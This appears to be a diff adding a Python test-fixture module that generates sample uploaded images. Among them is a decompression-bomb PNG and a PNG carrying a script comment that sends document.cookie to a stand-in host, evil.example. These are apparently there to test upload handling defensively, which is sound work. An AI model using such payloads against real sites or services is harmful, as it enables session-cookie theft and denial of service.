@@ -1,0 +1,52 @@
+"""Files as somebody might upload them."""
+
+import struct
+import zlib
+from io import BytesIO
+from typing import Any
+
+from PIL import Image
+
+
+def picture(kind: str = "JPEG", size: tuple[int, int] = (600, 400), mode: str = "RGB", **options: Any) -> bytes:
+    """A picture: red on the left, blue on the right."""
+    image = Image.new(mode, size, "blue" if mode in ("RGB", "RGBA", "P") else 255)
+    if mode in ("RGB", "RGBA"):
+        image.paste("red", (0, 0, size[0] // 2, size[1]))
+    out = BytesIO()
+    image.save(out, kind, **options)
+    return out.getvalue()
+
+
+def opened(content: bytes) -> Image.Image:
+    """The picture, decoded."""
+    image = Image.open(BytesIO(content))
+    image.load()
+    return image
+
+
+def located(orientation: int = 6) -> bytes:
+    """A JPEG of a camera that was held on its side, with the place where it was taken."""
+    exif = Image.Exif()
+    exif[0x0112] = orientation
+    exif[0x010F] = "A camera"
+    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 18.0)})
+    return picture(exif=exif)
+
+
+def huge_png(side: int = 50_000) -> bytes:
+    """A PNG of a few bytes that says it has so many pixels a side."""
+    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
+    line = zlib.compress(b"\0" * 1_000_000)
+    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", line) + _chunk(b"IEND", b"")
+
+
+def _chunk(name: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
+
+
+def scripted_png() -> bytes:
+    """A PNG that is a page as well: a script in a comment of it."""
+    whole = picture("PNG")
+    comment = _chunk(b"tEXt", b"Comment\0<script>fetch('//evil.example?' + document.cookie)</script>")
+    return whole[:33] + comment + whole[33:]
